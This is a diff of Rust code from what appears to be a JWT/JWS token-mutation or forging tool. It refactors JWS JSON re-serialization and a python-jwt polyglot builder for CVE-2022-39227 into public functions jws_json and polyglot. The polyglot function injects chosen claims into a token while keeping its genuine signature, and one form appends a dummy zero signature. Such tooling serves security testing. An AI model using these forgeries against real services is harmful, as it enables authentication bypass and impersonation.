@@ -790,45 +790,54 @@ fn apply_wire(m: &Mutation, token: String, ctx: &Context<'_>) -> Result<String, 
         OversizeSegment { segment, bytes } => {
             segment_mut(&mut segs, *segment)?.push_str(&"A".repeat(*bytes as usize))
         }
-        JsonSerialization { form } => {
-            let [h, p, s] = three(&segs)?;
-            let v = match form {
-                JsonForm::Flattened => json!({"protected": h, "payload": p, "signature": s}),
-                JsonForm::FlattenedUnprotectedAlg => {
-                    let mut header = object(&decoded(&segs, Segment::Header)?, Part::Header)?;
-                    let alg = header.shift_remove("alg").unwrap_or(json!("RS256"));
-                    json!({
-                        "protected": b64u(Value::Object(header).to_string().as_bytes()),
-                        "header": {"alg": alg},
-                        "payload": p,
-                        "signature": s,
-                    })
-                }
-                JsonForm::General => {
-                    json!({"payload": p, "signatures": [{"protected": h, "signature": s}]})
-                }
-                JsonForm::GeneralEmpty => json!({"payload": p, "signatures": []}),
-                JsonForm::GeneralTwo => json!({"payload": p, "signatures": [
-                    {"protected": h, "signature": s},
-                    {"protected": h, "signature": b64u(&[0; 256])},
-                ]}),
-            };
-            return Ok(v.to_string());
-        }
-        Polyglot { payload } => {
-            let [h, p, s] = three(&segs)?;
-            let mut claims = object(&decoded(&segs, Segment::Payload)?, Part::Payload)?;
-            for (k, v) in payload {
-                claims.insert(k.clone(), v.clone());
-            }
-            let fp = b64u(Value::Object(claims).to_string().as_bytes());
-            return Ok(format!(
-                r#"{{"  {h}.{fp}.":"","protected":"{h}","payload":"{p}","signature":"{s}"}}"#
-            ));
-        }
+        JsonSerialization { form } => return jws_json(&token, *form),
+        Polyglot { payload } => return polyglot(&token, payload),
         _ => return err("not a mutation of the assembled token"),
     }
     Ok(segs.join("."))
+}
+
+/// A compact JWS re-serialized as a JWS JSON serialization (RFC 7515 §7.2).
+pub fn jws_json(token: &str, form: JsonForm) -> Result<String, ForgeError> {
+    let segs = segments(token);
+    let [h, p, s] = three(&segs)?;
+    let v = match form {
+        JsonForm::Flattened => json!({"protected": h, "payload": p, "signature": s}),
+        JsonForm::FlattenedUnprotectedAlg => {
+            let mut header = object(&decoded(&segs, Segment::Header)?, Part::Header)?;
+            let alg = header.shift_remove("alg").unwrap_or(json!("RS256"));
+            json!({
+                "protected": b64u(Value::Object(header).to_string().as_bytes()),
+                "header": {"alg": alg},
+                "payload": p,
+                "signature": s,
+            })
+        }
+        JsonForm::General => {
+            json!({"payload": p, "signatures": [{"protected": h, "signature": s}]})
+        }
+        JsonForm::GeneralEmpty => json!({"payload": p, "signatures": []}),
+        JsonForm::GeneralTwo => json!({"payload": p, "signatures": [
+            {"protected": h, "signature": s},
+            {"protected": h, "signature": b64u(&[0; 256])},
+        ]}),
+    };
+    Ok(v.to_string())
+}
+
+/// The python-jwt polyglot (CVE-2022-39227) of a compact JWS: a JSON object whose first member
+/// name is the token with `payload` members merged into its payload, then the genuine parts.
+pub fn polyglot(token: &str, payload: &Map<String, Value>) -> Result<String, ForgeError> {
+    let segs = segments(token);
+    let [h, p, s] = three(&segs)?;
+    let mut claims = object(&decoded(&segs, Segment::Payload)?, Part::Payload)?;
+    for (k, v) in payload {
+        claims.insert(k.clone(), v.clone());
+    }
+    let fp = b64u(Value::Object(claims).to_string().as_bytes());
+    Ok(format!(
+        r#"{{"  {h}.{fp}.":"","protected":"{h}","payload":"{p}","signature":"{s}"}}"#
+    ))
 }
 
 fn three(segs: &[String]) -> Result<[&str; 3], ForgeError> {
